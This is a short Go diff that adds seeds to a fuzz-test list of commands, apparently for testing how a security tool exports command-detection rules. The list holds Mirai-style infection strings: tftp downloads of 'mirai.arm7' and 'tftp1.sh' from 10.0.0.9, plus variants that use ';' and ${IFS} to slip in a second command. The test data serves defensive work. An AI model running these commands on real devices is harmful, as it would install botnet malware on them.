@@ -151,6 +151,9 @@ var commandSeeds = []string{
 	"tftp -g -r \"mirai.arm7\" h",
 	"x.sh tftp -g -r tftp1.sh h",
 	"GET /downloads/tftp1.sh HTTP/1.1\r\n\r\n",
+	"tftp -g x tftp -i 10.0.0.9 GET mirai.arm7",
+	"tftp -g x ${IFS;}tftp -i 10.0.0.9 GET mirai.arm7",
+	"tftp -g x; tftp -i 10.0.0.9 GET mirai.arm7",
 }
 
 // FuzzCommandRuleExport: whatever the payload, an exported command rule
